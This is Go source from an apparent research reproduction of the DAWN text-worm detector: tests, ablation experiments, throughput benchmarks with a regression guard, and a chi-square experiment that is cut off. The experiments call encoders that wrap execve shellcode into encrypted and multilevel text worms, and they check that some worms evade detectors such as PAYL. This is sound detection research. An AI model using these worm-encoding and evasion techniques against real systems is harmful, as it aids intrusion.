func TestAVScan(t *testing.T) {
	res, err := AVScan(io.Discard, DefaultSeed)
	if err != nil {
		t.Fatal(err)
	}
	if res.BinaryFlagged != res.BinaryTotal {
		t.Errorf("binary flagged %d/%d, want all", res.BinaryFlagged, res.BinaryTotal)
	}
	if res.TextFlagged != 0 {
		t.Errorf("text flagged %d, want none", res.TextFlagged)
	}
}

func TestBinaryWorms(t *testing.T) {
	res, err := BinaryWorms(io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	if !res.SledDetected || !res.SledStrideFound {
		t.Errorf("sled worm should be caught: %+v", res)
	}
	if res.SpringDetected || res.SpringStrideHit {
		t.Errorf("register-spring worm should evade: %+v", res)
	}
	if !res.SpringFunctional {
		t.Error("register-spring worm must still be functional")
	}
}

func TestAPEComparison(t *testing.T) {
	res, err := APEComparison(io.Discard, DefaultSeed, 15, 15)
	if err != nil {
		t.Fatal(err)
	}
	if res.DAWNMissed != 0 || res.DAWNFalsePos != 0 {
		t.Errorf("DAWN not clean: %+v", res)
	}
	if res.APEMissed == 0 {
		t.Error("APE should miss text worms (Section 6)")
	}
	if res.APEThreshold <= 40 {
		t.Errorf("APE text-trained threshold %d should dwarf DAWN's 40", res.APEThreshold)
	}
}

func TestPAYLEvasion(t *testing.T) {
	res, err := PAYLEvasion(io.Discard, DefaultSeed)
	if err != nil {
		t.Fatal(err)
	}
	if !res.BlendedEvadesPAYL {
		t.Errorf("blending failed: distance %v threshold %v", res.BlendedDistance, res.PAYLThreshold)
	}
	if !res.BlendedCaughtByDAWN {
		t.Errorf("MEL missed the blended worm (MEL %d)", res.BlendedMEL)
	}
	if res.RawWormDistance <= res.PAYLThreshold {
		t.Error("raw worm should be flagged by PAYL before blending")
	}
}

func TestTextOps(t *testing.T) {
	res, err := TextOps(io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var total int
	for _, c := range res.RoleCounts {
		total += c
	}
	if total != 95 {
		t.Errorf("role counts cover %d bytes, want 95", total)
	}
	if got := res.Opcodes['l']; got != "ins" {
		t.Errorf("'l' maps to %q", got)
	}
	if got := res.Opcodes['-']; got != "sub" {
		t.Errorf("'-' maps to %q", got)
	}
}

package experiments

import (
	"fmt"
	"io"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/mel"
	"repro/internal/shellcode"
	"repro/internal/x86"
)

// RuleAblationRow is one rule-set's separation statistics.
type RuleAblationRow struct {
	Name       string
	EmpiricalP float64 // measured invalid fraction on benign text
	BenignMax  int
	WormMin    int
	Separated  bool // worm min > benign max
}

// RuleAblation quantifies the DESIGN.md ablation: how each invalidity
// rule contributes to p and to the benign/worm separation. It is the
// constructive version of Section 3.3's closing observation — "finding
// more ways to invalidate instructions in text streams is important".
func RuleAblation(w io.Writer, seed uint64, cases, worms int) ([]RuleAblationRow, error) {
	section(w, "E14 / ablation", "invalidity rules: contribution to p and separation")
	benign, err := benignDataset(seed, cases)
	if err != nil {
		return nil, err
	}
	malicious, _, err := wormDataset(seed+1, worms)
	if err != nil {
		return nil, err
	}

	wrongSegs := map[x86.Seg]bool{
		x86.SegCS: true, x86.SegES: true, x86.SegFS: true, x86.SegGS: true,
	}
	sets := []struct {
		name  string
		rules mel.Rules
	}{
		{"APE-narrow", mel.APE()},
		{"+privileged-IO", mel.Rules{
			InvalidateIO: true, InvalidatePrivileged: true,
			InvalidateInterrupts: true, InvalidateFarTransfers: true,
		}},
		{"+wrong-segment", mel.Rules{
			InvalidateIO: true, InvalidatePrivileged: true,
			InvalidateInterrupts: true, InvalidateFarTransfers: true,
			WrongSegs: wrongSegs,
		}},
		{"+uninit-register (DAWN)", mel.DAWN()},
	}

	fmt.Fprintf(w, "%-26s %12s %12s %10s %10s\n",
		"rule set", "empirical p", "benign max", "worm min", "separated")
	out := make([]RuleAblationRow, 0, len(sets))
	for _, s := range sets {
		eng := mel.NewEngine(s.rules)
		var pSum float64
		benignMax := 0
		for _, b := range benign {
			p, err := eng.InvalidFraction(b)
			if err != nil {
				return nil, err
			}
			pSum += p
			res, err := eng.Scan(b)
			if err != nil {
				return nil, err
			}
			if res.MEL > benignMax {
				benignMax = res.MEL
			}
		}
		wormMin := 1 << 30
		for _, m := range malicious {
			res, err := eng.Scan(m)
			if err != nil {
				return nil, err
			}
			if res.MEL < wormMin {
				wormMin = res.MEL
			}
		}
		row := RuleAblationRow{
			Name:       s.name,
			EmpiricalP: pSum / float64(len(benign)),
			BenignMax:  benignMax,
			WormMin:    wormMin,
			Separated:  wormMin > benignMax,
		}
		fmt.Fprintf(w, "%-26s %12.3f %12d %10d %10v\n",
			row.Name, row.EmpiricalP, row.BenignMax, row.WormMin, row.Separated)
		out = append(out, row)
	}
	fmt.Fprintf(w, "\nthe text-specific rules raise p and collapse benign MEL until the\n")
	fmt.Fprintf(w, "worm band separates — Section 6's explanation of why APE fails on text\n")
	return out, nil
}

// AlphaSweepRow is one α operating point.
type AlphaSweepRow struct {
	Alpha float64
	Tau   float64
	FP    int
	FN    int
}

// AlphaSweep traces the paper's sensitivity knob (Section 3.2: "the
// flexibility to set the detection sensitivity"): FP/FN across α.
func AlphaSweep(w io.Writer, seed uint64, cases, worms int) ([]AlphaSweepRow, error) {
	section(w, "E15 / ablation", "sensitivity knob: FP/FN across alpha")
	benign, err := benignDataset(seed, cases)
	if err != nil {
		return nil, err
	}
	malicious, _, err := wormDataset(seed+1, worms)
	if err != nil {
		return nil, err
	}
	var training []byte
	for _, b := range benign {
		training = append(training, b...)
	}

	alphas := []float64{1e-6, 1e-4, 1e-3, 0.01, 0.05, 0.2, 0.5}
	fmt.Fprintf(w, "%10s %10s %8s %8s\n", "alpha", "tau", "FP", "FN")
	out := make([]AlphaSweepRow, 0, len(alphas))
	for _, a := range alphas {
		det, err := core.New(core.WithAlpha(a))
		if err != nil {
			return nil, err
		}
		if err := det.Calibrate(training); err != nil {
			return nil, err
		}
		ev, err := det.Evaluate(benign, malicious)
		if err != nil {
			return nil, err
		}
		// Report the operating threshold via one scan.
		v, err := det.Scan(benign[0])
		if err != nil {
			return nil, err
		}
		row := AlphaSweepRow{Alpha: a, Tau: v.Threshold, FP: ev.FalsePositives, FN: ev.FalseNegatives}
		fmt.Fprintf(w, "%10.0e %10.2f %8d %8d\n", row.Alpha, row.Tau, row.FP, row.FN)
		out = append(out, row)
	}
	fmt.Fprintf(w, "\ntau decreases as alpha grows; the worm band (>120) is far enough out\n")
	fmt.Fprintf(w, "that FN stays 0 across the entire usable range\n")
	return out, nil
}

// SizeSweepRow is one input-size operating point.
type SizeSweepRow struct {
	CaseLen   int
	N         int
	Tau       float64
	BenignMax int
	WormMin   int
	FP        int
	FN        int
}

// SizeSweep traces how the detector scales with the input size C: n
// grows linearly with C, τ grows logarithmically (the model's
// prediction), and the worm band stays separated at every size the
// channel plausibly carries.
func SizeSweep(w io.Writer, seed uint64, casesPerSize, worms int) ([]SizeSweepRow, error) {
	section(w, "E17 / ablation", "input-size scaling: n, tau and separation vs C")
	malicious, _, err := wormDataset(seed+1, worms)
	if err != nil {
		return nil, err
	}

	sizes := []int{1000, 2000, 4000, 8000, 16000}
	fmt.Fprintf(w, "%8s %8s %8s %12s %10s %6s %6s\n",
		"C", "n", "tau", "benign max", "worm min", "FP", "FN")
	out := make([]SizeSweepRow, 0, len(sizes))
	for _, size := range sizes {
		cases, err := corpus.Dataset(seed, casesPerSize, size)
		if err != nil {
			return nil, err
		}
		benign := make([][]byte, len(cases))
		var training []byte
		for i, c := range cases {
			benign[i] = c.Data
			training = append(training, c.Data...)
		}
		det, err := core.New()
		if err != nil {
			return nil, err
		}
		if err := det.Calibrate(training); err != nil {
			return nil, err
		}

		row := SizeSweepRow{CaseLen: size, WormMin: 1 << 30}
		for _, b := range benign {
			v, err := det.Scan(b)
			if err != nil {
				return nil, err
			}
			row.N = v.Params.N
			row.Tau = v.Threshold
			if v.MEL > row.BenignMax {
				row.BenignMax = v.MEL
			}
			if v.Malicious {
				row.FP++
			}
		}
		for _, m := range malicious {
			v, err := det.Scan(m)
			if err != nil {
				return nil, err
			}
			if v.MEL < row.WormMin {
				row.WormMin = v.MEL
			}
			if !v.Malicious {
				row.FN++
			}
		}
		fmt.Fprintf(w, "%8d %8d %8.2f %12d %10d %6d %6d\n",
			row.CaseLen, row.N, row.Tau, row.BenignMax, row.WormMin, row.FP, row.FN)
		out = append(out, row)
	}
	fmt.Fprintf(w, "\nn scales linearly with C while tau grows only logarithmically —\n")
	fmt.Fprintf(w, "the separation survives across an order of magnitude of input size\n")
	return out, nil
}

// StyleAblationRow compares decrypter code-generation strategies.
type StyleAblationRow struct {
	Name         string
	WormBytes    int
	Decrypter    int
	Instructions int
	MEL          int
	Detected     bool
}

// StyleAblation compares the two decrypter shapes and the multilevel
// (Section 7 "Russian doll") construction, measuring size, path length,
// MEL and detectability of each — the paper's argument that every
// variation stays big and detectable, quantified.
func StyleAblation(w io.Writer, seed uint64) ([]StyleAblationRow, error) {
	section(w, "E16 / ablation", "decrypter shapes: size, MEL, detectability")
	payload := shellcode.Execve().Code
	det, err := core.New()
	if err != nil {
		return nil, err
	}

	build := func(name string, worm *encoder.Worm) (StyleAblationRow, error) {
		v, err := det.Scan(worm.Bytes)
		if err != nil {
			return StyleAblationRow{}, err
		}
		return StyleAblationRow{
			Name:         name,
			WormBytes:    len(worm.Bytes),
			Decrypter:    worm.DecrypterLen,
			Instructions: worm.Instructions,
			MEL:          v.MEL,
			Detected:     v.Malicious,
		}, nil
	}

	xorWorm, err := encoder.Encode(payload, encoder.Options{Seed: seed, Style: encoder.StyleXORWrite})
	if err != nil {
		return nil, err
	}
	subWorm, err := encoder.Encode(payload, encoder.Options{Seed: seed, Style: encoder.StyleSubWrite})
	if err != nil {
		return nil, err
	}
	// Multilevel: inner worm re-encoded as the payload of an outer worm
	// (two passes to fix the inner ESPDelta at the outer region offset).
	probeInner, err := encoder.Encode(payload, encoder.Options{Seed: seed + 1, SledLen: 8})
	if err != nil {
		return nil, err
	}
	probeOuter, err := encoder.Encode(probeInner.Bytes, encoder.Options{Seed: seed + 2, SledLen: 16})
	if err != nil {
		return nil, err
	}
	inner, err := encoder.Encode(payload, encoder.Options{
		Seed: seed + 1, SledLen: 8,
		ESPDelta: int32(probeOuter.SledLen + probeOuter.DecrypterLen),
	})
	if err != nil {
		return nil, err
	}
	outer, err := encoder.Encode(inner.Bytes, encoder.Options{Seed: seed + 2, SledLen: 16})
	if err != nil {
		return nil, err
	}

	rows := make([]StyleAblationRow, 0, 3)
	fmt.Fprintf(w, "%-26s %10s %10s %8s %6s %9s\n",
		"construction", "worm bytes", "decrypter", "path", "MEL", "detected")
	for _, c := range []struct {
		name string
		worm *encoder.Worm
	}{
		{"xor-write (rix-style)", xorWorm},
		{"sub-write (leaner)", subWorm},
		{"multilevel russian doll", outer},
	} {
		row, err := build(c.name, c.worm)
		if err != nil {
			return nil, err
		}
		fmt.Fprintf(w, "%-26s %10d %10d %8d %6d %9v\n",
			row.Name, row.WormBytes, row.Decrypter, row.Instructions, row.MEL, row.Detected)
		rows = append(rows, row)
	}
	fmt.Fprintf(w, "\nSection 7 quantified: the leaner shape shrinks the decrypter ~25%% and\n")
	fmt.Fprintf(w, "multilevel encoding makes it larger, not smaller; every shape detected\n")
	return rows, nil
}

package experiments

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"testing"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/mel"
	"repro/internal/shellcode"
	"repro/internal/telemetry/tracing"
)

// EngineBenchResult is one measured scan configuration.
type EngineBenchResult struct {
	Name        string  `json:"name"`
	NsPerOp     float64 `json:"ns_per_op"`
	MBPerSec    float64 `json:"mb_per_sec"`
	AllocsPerOp int64   `json:"allocs_per_op"`
	BytesPerOp  int64   `json:"bytes_per_op"`
}

// EngineBenchReport is the BENCH_engine.json artifact: the engine's perf
// trajectory, tracked across PRs. SpeedupSequential is the optimized
// engine's ns/op improvement over the retained seed implementation on
// the default-rules 4 KB benign scan. TracingOverhead is the relative
// ns/op cost of running that same scan with a live per-scan trace
// (traced/untraced − 1); the observability budget holds it under 5%.
type EngineBenchReport struct {
	Workload          string              `json:"workload"`
	Results           []EngineBenchResult `json:"results"`
	SpeedupSequential float64             `json:"speedup_sequential"`
	TracingOverhead   float64             `json:"tracing_overhead"`
}

// EngineBench measures MEL-engine scan throughput — optimized engine vs
// the retained reference, plus the worm positive case and the windowed
// stream path — and writes the JSON artifact to outPath ("" skips the
// file).
func EngineBench(w io.Writer, outPath string, seed uint64) (EngineBenchReport, error) {
	cases, err := corpus.Dataset(seed, 8, 4096)
	if err != nil {
		return EngineBenchReport{}, err
	}
	benign := cases[0].Data[:4000]

	worm, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: seed})
	if err != nil {
		return EngineBenchReport{}, err
	}
	wormCase := append(append([]byte{}, benign[:2000]...), worm.Bytes...)
	wormCase = append(wormCase, benign[2000:]...)
	if len(wormCase) > 4096 {
		wormCase = wormCase[:4096]
	}

	eng := mel.NewEngine(mel.DAWN())

	measure := func(name string, nbytes int, f func(b *testing.B)) EngineBenchResult {
		r := testing.Benchmark(f)
		nsPerOp := float64(r.T.Nanoseconds()) / float64(r.N)
		mbPerSec := 0.0
		if nsPerOp > 0 {
			mbPerSec = float64(nbytes) / nsPerOp * 1e9 / 1e6
		}
		return EngineBenchResult{
			Name:        name,
			NsPerOp:     nsPerOp,
			MBPerSec:    mbPerSec,
			AllocsPerOp: r.AllocsPerOp(),
			BytesPerOp:  r.AllocedBytesPerOp(),
		}
	}

	report := EngineBenchReport{Workload: "4 KB benign text case, DAWN rules, sequential mode"}

	optimized := measure("engine_scan_benign_4k", len(benign), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := eng.Scan(benign); err != nil {
				b.Fatal(err)
			}
		}
	})
	reference := measure("engine_scan_reference_4k", len(benign), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := eng.ScanReference(benign); err != nil {
				b.Fatal(err)
			}
		}
	})
	rec := tracing.NewRecorder(tracing.RecorderConfig{})
	traced := measure("engine_scan_traced_4k", len(benign), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			// The full per-scan tracing cost as the server pays it: trace
			// allocation, timed stages, finish, and recorder publish.
			tr := tracing.New(tracing.TraceID{}, len(benign))
			if _, err := eng.ScanTraced(benign, tr); err != nil {
				b.Fatal(err)
			}
			tr.Finish()
			rec.Record(tr)
		}
	})
	wormRes := measure("engine_scan_worm_4k", len(wormCase), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := eng.Scan(wormCase); err != nil {
				b.Fatal(err)
			}
		}
	})

	det, err := core.New()
	if err != nil {
		return EngineBenchReport{}, err
	}
	var stream []byte
	for _, c := range cases {
		stream = append(stream, c.Data...)
	}
	scanner, err := core.NewStreamScanner(det, 0, 0)
	if err != nil {
		return EngineBenchReport{}, err
	}
	if _, err := scanner.Write(stream); err != nil { // warm caches and pools
		return EngineBenchReport{}, err
	}
	streamRes := measure("stream_scanner_throughput", len(stream), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := scanner.Write(stream); err != nil {
				b.Fatal(err)
			}
		}
	})

	report.Results = []EngineBenchResult{optimized, reference, traced, wormRes, streamRes}
	if optimized.NsPerOp > 0 {
		report.SpeedupSequential = reference.NsPerOp / optimized.NsPerOp
		report.TracingOverhead = traced.NsPerOp/optimized.NsPerOp - 1
	}

	fmt.Fprintln(w, "E19: engine scan throughput (4 KB cases, DAWN rules)")
	for _, r := range report.Results {
		fmt.Fprintf(w, "  %-28s %12.0f ns/op %9.2f MB/s %6d allocs/op\n",
			r.Name, r.NsPerOp, r.MBPerSec, r.AllocsPerOp)
	}
	fmt.Fprintf(w, "  sequential speedup vs reference: %.2fx\n", report.SpeedupSequential)
	fmt.Fprintf(w, "  tracing overhead: %.2f%%\n", report.TracingOverhead*100)

	if outPath != "" {
		blob, err := json.MarshalIndent(report, "", "  ")
		if err != nil {
			return report, err
		}
		if err := os.WriteFile(outPath, append(blob, '\n'), 0o644); err != nil {
			return report, fmt.Errorf("write %s: %w", outPath, err)
		}
		fmt.Fprintf(w, "  wrote %s\n", outPath)
	}
	fmt.Fprintln(w)
	return report, nil
}

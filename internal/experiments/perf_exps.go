package experiments

import (
	"encoding/json"
	"fmt"
	"io"
	"math/rand"
	"os"
	"testing"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/mel"
	"repro/internal/shellcode"
	"repro/internal/telemetry/events"
	"repro/internal/telemetry/tracing"
)

// EngineBenchResult is one measured scan configuration.
type EngineBenchResult struct {
	Name        string  `json:"name"`
	NsPerOp     float64 `json:"ns_per_op"`
	MBPerSec    float64 `json:"mb_per_sec"`
	AllocsPerOp int64   `json:"allocs_per_op"`
	BytesPerOp  int64   `json:"bytes_per_op"`
}

// EngineBenchReport is the BENCH_engine.json artifact: the engine's perf
// trajectory, tracked across PRs. SpeedupSequential is the optimized
// engine's ns/op improvement over the retained seed implementation on
// the default-rules 4 KB benign scan. TracingOverhead is the relative
// ns/op cost of running that same scan with a live per-scan trace
// (traced/untraced − 1); the observability budget holds it under 5%.
type EngineBenchReport struct {
	Workload          string              `json:"workload"`
	Results           []EngineBenchResult `json:"results"`
	SpeedupSequential float64             `json:"speedup_sequential"`
	TracingOverhead   float64             `json:"tracing_overhead"`
	// EventsOverhead is the additional relative cost of journaling every
	// scan as a wide event on top of the traced path (events/traced − 1);
	// like tracing, the budget holds it under 5%.
	EventsOverhead float64 `json:"events_overhead"`
	// StreamCarryReuse is the fraction of packed records the windowed
	// stream scan carried across window overlaps instead of re-decoding
	// (0 would mean every window decoded from scratch).
	StreamCarryReuse float64 `json:"stream_carry_reuse"`
}

// EngineBench measures MEL-engine scan throughput — optimized engine vs
// the retained reference, plus the worm positive case and the windowed
// stream path — and writes the JSON artifact to outPath ("" skips the
// file).
func EngineBench(w io.Writer, outPath string, seed uint64) (EngineBenchReport, error) {
	cases, err := corpus.Dataset(seed, 8, 4096)
	if err != nil {
		return EngineBenchReport{}, err
	}
	benign := cases[0].Data[:4000]

	worm, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: seed})
	if err != nil {
		return EngineBenchReport{}, err
	}
	wormCase := append(append([]byte{}, benign[:2000]...), worm.Bytes...)
	wormCase = append(wormCase, benign[2000:]...)
	if len(wormCase) > 4096 {
		wormCase = wormCase[:4096]
	}

	eng := mel.NewEngine(mel.DAWN())

	measure := func(name string, nbytes int, f func(b *testing.B)) EngineBenchResult {
		r := testing.Benchmark(f)
		nsPerOp := float64(r.T.Nanoseconds()) / float64(r.N)
		mbPerSec := 0.0
		if nsPerOp > 0 {
			mbPerSec = float64(nbytes) / nsPerOp * 1e9 / 1e6
		}
		return EngineBenchResult{
			Name:        name,
			NsPerOp:     nsPerOp,
			MBPerSec:    mbPerSec,
			AllocsPerOp: r.AllocsPerOp(),
			BytesPerOp:  r.AllocedBytesPerOp(),
		}
	}

	report := EngineBenchReport{Workload: "4 KB benign text case, DAWN rules, sequential mode"}

	optimized := measure("engine_scan_benign_4k", len(benign), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := eng.Scan(benign); err != nil {
				b.Fatal(err)
			}
		}
	})
	reference := measure("engine_scan_reference_4k", len(benign), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := eng.ScanReference(benign); err != nil {
				b.Fatal(err)
			}
		}
	})
	rec := tracing.NewRecorder(tracing.RecorderConfig{})
	traced := measure("engine_scan_traced_4k", len(benign), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			// The full per-scan tracing cost as the server pays it: trace
			// allocation, timed stages, finish, and recorder publish.
			tr := tracing.New(tracing.TraceID{}, len(benign))
			if _, err := eng.ScanTraced(benign, tr); err != nil {
				b.Fatal(err)
			}
			tr.Finish()
			rec.Record(tr)
		}
	})
	// The events path is the traced path plus a wide-event journal write
	// per scan: what the server's hot path pays with -events enabled.
	// SampleEvery 1 defeats the benign sampler, so this is the worst
	// case — every scan encodes and publishes.
	journal := events.New(events.Config{Capacity: events.DefaultCapacity, SampleEvery: 1})
	eventsRes := measure("engine_scan_events_4k", len(benign), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			tr := tracing.New(tracing.TraceID{}, len(benign))
			res, err := eng.ScanTraced(benign, tr)
			if err != nil {
				b.Fatal(err)
			}
			tr.Finish()
			rec.Record(tr)
			ev := events.Event{
				StartUnixNs: tr.Start.UnixNano(),
				Total:       tr.Total(),
				Bytes:       len(benign),
				MEL:         res.MEL,
				ViewIndex:   -1,
			}
			// Spread the shard hash as real trace ids would.
			ev.TraceID[15] = byte(i)
			ev.TraceID[14] = byte(i >> 8)
			for s := 0; s < tracing.NumStages; s++ {
				ev.Stages[s] = tr.StageDur(tracing.Stage(s))
			}
			journal.Record(&ev)
		}
	})
	wormRes := measure("engine_scan_worm_4k", len(wormCase), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := eng.Scan(wormCase); err != nil {
				b.Fatal(err)
			}
		}
	})

	// Larger and adversarial inputs: a 64 KB text case (the cost curve
	// past the calibrated window size) and a 4 KB case alternating text
	// with high-entropy runs (the quick tables miss most offsets there).
	bigCases, err := corpus.Dataset(seed+1, 16, 4096)
	if err != nil {
		return EngineBenchReport{}, err
	}
	big := corpus.Concat(bigCases)
	if len(big) > 64<<10 {
		big = big[:64<<10]
	}
	big64Res := measure("engine_scan_benign_64k", len(big), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := eng.Scan(big); err != nil {
				b.Fatal(err)
			}
		}
	})
	mixed := append([]byte{}, benign...)
	rng := rand.New(rand.NewSource(int64(seed) + 7))
	for off := 512; off+512 <= len(mixed); off += 1024 {
		rng.Read(mixed[off : off+512])
	}
	mixedRes := measure("engine_scan_mixed_4k", len(mixed), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := eng.Scan(mixed); err != nil {
				b.Fatal(err)
			}
		}
	})

	det, err := core.New()
	if err != nil {
		return EngineBenchReport{}, err
	}
	var stream []byte
	for _, c := range cases {
		stream = append(stream, c.Data...)
	}
	scanner, err := core.NewStreamScanner(det, 0, 0)
	if err != nil {
		return EngineBenchReport{}, err
	}
	if _, err := scanner.Write(stream); err != nil { // warm caches and pools
		return EngineBenchReport{}, err
	}
	streamRes := measure("stream_scanner_throughput", len(stream), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := scanner.Write(stream); err != nil {
				b.Fatal(err)
			}
		}
	})

	if carry := scanner.CarryStats(); carry.RecordsReused+carry.RecordsDecoded > 0 {
		report.StreamCarryReuse = float64(carry.RecordsReused) /
			float64(carry.RecordsReused+carry.RecordsDecoded)
	}

	report.Results = []EngineBenchResult{optimized, reference, traced, eventsRes, wormRes, big64Res, mixedRes, streamRes}
	if optimized.NsPerOp > 0 {
		report.SpeedupSequential = reference.NsPerOp / optimized.NsPerOp
		report.TracingOverhead = traced.NsPerOp/optimized.NsPerOp - 1
	}
	if traced.NsPerOp > 0 {
		report.EventsOverhead = eventsRes.NsPerOp/traced.NsPerOp - 1
	}

	fmt.Fprintln(w, "E19: engine scan throughput (4 KB cases, DAWN rules)")
	for _, r := range report.Results {
		fmt.Fprintf(w, "  %-28s %12.0f ns/op %9.2f MB/s %6d allocs/op\n",
			r.Name, r.NsPerOp, r.MBPerSec, r.AllocsPerOp)
	}
	fmt.Fprintf(w, "  sequential speedup vs reference: %.2fx\n", report.SpeedupSequential)
	fmt.Fprintf(w, "  tracing overhead: %.2f%%\n", report.TracingOverhead*100)
	fmt.Fprintf(w, "  events overhead: %.2f%%\n", report.EventsOverhead*100)
	fmt.Fprintf(w, "  stream carry reuse: %.1f%%\n", report.StreamCarryReuse*100)

	if outPath != "" {
		blob, err := json.MarshalIndent(report, "", "  ")
		if err != nil {
			return report, err
		}
		if err := os.WriteFile(outPath, append(blob, '\n'), 0o644); err != nil {
			return report, fmt.Errorf("write %s: %w", outPath, err)
		}
		fmt.Fprintf(w, "  wrote %s\n", outPath)
	}
	fmt.Fprintln(w)
	return report, nil
}

// BenchGuard re-measures the engine benchmarks and fails if any named
// benchmark regressed against the committed BENCH_engine.json artifact:
// ns/op more than 20% above the committed value, or any rise in
// allocs/op. Benchmarks present in only one of the two reports are
// noted but not judged. A failing first pass is measured once more and
// judged on the better of the two runs, so a single co-tenant noise
// spike does not fail CI.
func BenchGuard(w io.Writer, committedPath string, seed uint64) error {
	return guardBench(w, committedPath, func() ([]EngineBenchResult, error) {
		report, err := EngineBench(w, "", seed)
		return report.Results, err
	})
}

// guardBench is the regression judge shared by the engine and content
// guards: measure re-runs one benchmark family, and any named result
// whose ns/op exceeds the committed artifact's by more than 20% — or
// whose allocs/op rose at all — is a violation. A failing first pass is
// measured once more and judged on the better of the two runs per
// benchmark, so a single co-tenant noise spike does not fail CI.
func guardBench(w io.Writer, committedPath string, measure func() ([]EngineBenchResult, error)) error {
	blob, err := os.ReadFile(committedPath)
	if err != nil {
		return fmt.Errorf("bench-guard: read committed artifact: %w", err)
	}
	// Every bench artifact carries its results under the same key; the
	// family-specific fields are not judged.
	var committed struct {
		Results []EngineBenchResult `json:"results"`
	}
	if err := json.Unmarshal(blob, &committed); err != nil {
		return fmt.Errorf("bench-guard: parse %s: %w", committedPath, err)
	}
	base := make(map[string]EngineBenchResult, len(committed.Results))
	for _, r := range committed.Results {
		base[r.Name] = r
	}

	judge := func(results []EngineBenchResult) []string {
		var violations []string
		for _, r := range results {
			c, ok := base[r.Name]
			if !ok {
				fmt.Fprintf(w, "  %-28s no committed baseline; skipped\n", r.Name)
				continue
			}
			if limit := c.NsPerOp * 1.20; r.NsPerOp > limit {
				violations = append(violations, fmt.Sprintf(
					"%s: %.0f ns/op exceeds committed %.0f by more than 20%%",
					r.Name, r.NsPerOp, c.NsPerOp))
			}
			if r.AllocsPerOp > c.AllocsPerOp {
				violations = append(violations, fmt.Sprintf(
					"%s: %d allocs/op, committed %d",
					r.Name, r.AllocsPerOp, c.AllocsPerOp))
			}
		}
		return violations
	}

	results, err := measure()
	if err != nil {
		return err
	}
	violations := judge(results)
	if len(violations) > 0 {
		fmt.Fprintf(w, "  bench-guard: %d violation(s) on first pass; re-measuring\n", len(violations))
		retry, err := measure()
		if err != nil {
			return err
		}
		// Judge the better of the two runs per benchmark.
		byName := make(map[string]EngineBenchResult, len(retry))
		for _, r := range retry {
			byName[r.Name] = r
		}
		merged := make([]EngineBenchResult, 0, len(results))
		for _, r := range results {
			if r2, ok := byName[r.Name]; ok {
				if r2.NsPerOp < r.NsPerOp {
					r.NsPerOp = r2.NsPerOp
				}
				if r2.AllocsPerOp < r.AllocsPerOp {
					r.AllocsPerOp = r2.AllocsPerOp
				}
			}
			merged = append(merged, r)
		}
		violations = judge(merged)
	}
	if len(violations) > 0 {
		for _, v := range violations {
			fmt.Fprintf(w, "  REGRESSION %s\n", v)
		}
		return fmt.Errorf("bench-guard: %d regression(s) vs %s", len(violations), committedPath)
	}
	fmt.Fprintf(w, "  bench-guard: all benchmarks within 20%% of %s, no alloc growth\n", committedPath)
	return nil
}

package experiments

import (
	"fmt"
	"io"
	"math"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/mel"
	"repro/internal/melmodel"
	"repro/internal/stats"
)

// ChiSquareResult is the Section 3.3 independence test outcome.
type ChiSquareResult struct {
	Observed  [2][2]int
	Expected  [][]float64
	Statistic float64
	PValue    float64
	Rejected  bool // whether independence is rejected at 5%
	// Phi is the effect size sqrt(chi2/n): the strength of the
	// dependence, which is what matters at large sample sizes. The
	// paper's own table implies phi ≈ 0.013 at 15.5k pairs; values well
	// under 0.1 mean the Bernoulli independence approximation is sound.
	Phi float64
	// PaperScalePValue re-runs the test on a subsample of the paper's
	// size (~15.5k pairs) for a like-for-like comparison with its
	// reported p ≈ 0.1.
	PaperScalePValue float64
}

// ChiSquare regenerates the Section 3.3 contingency table: disassemble
// the benign corpus, count validity of contiguous instruction pairs, and
// run Pearson's chi-square test of independence (the paper reports
// expected counts within ~0.5% of observed and p-value ≈ 0.1).
func ChiSquare(w io.Writer, seed uint64) (*ChiSquareResult, error) {
	section(w, "E3 / Section 3.3", "independence of instruction validity (chi-square)")
	benign, err := benignDataset(seed, DefaultCases)
	if err != nil {
		return nil, err
	}
	engine := mel.NewEngine(mel.DAWNStateless())
	var counts, paperScale [2][2]int
	const paperPairs = 15492 // the paper's table total
	pairsSeen := 0
	for _, b := range benign {
		c := engine.PairCounts(b)
		for i := 0; i < 2; i++ {
			for j := 0; j < 2; j++ {
				counts[i][j] += c[i][j]
				if pairsSeen < paperPairs {
					paperScale[i][j] += c[i][j]
				}
			}
		}
		pairsSeen += c[0][0] + c[0][1] + c[1][0] + c[1][1]
	}
	tbl, err := stats.NewContingencyTable([][]float64{
		{float64(counts[0][0]), float64(counts[0][1])},
		{float64(counts[1][0]), float64(counts[1][1])},
	})
	if err != nil {
		return nil, err
	}
	res, err := tbl.ChiSquareIndependence()
	if err != nil {
		return nil, err
	}
	paperTbl, err := stats.NewContingencyTable([][]float64{
		{float64(paperScale[0][0]), float64(paperScale[0][1])},
		{float64(paperScale[1][0]), float64(paperScale[1][1])},
	})
	if err != nil {
		return nil, err
	}
	paperRes, err := paperTbl.ChiSquareIndependence()
	if err != nil {
		return nil, err
	}
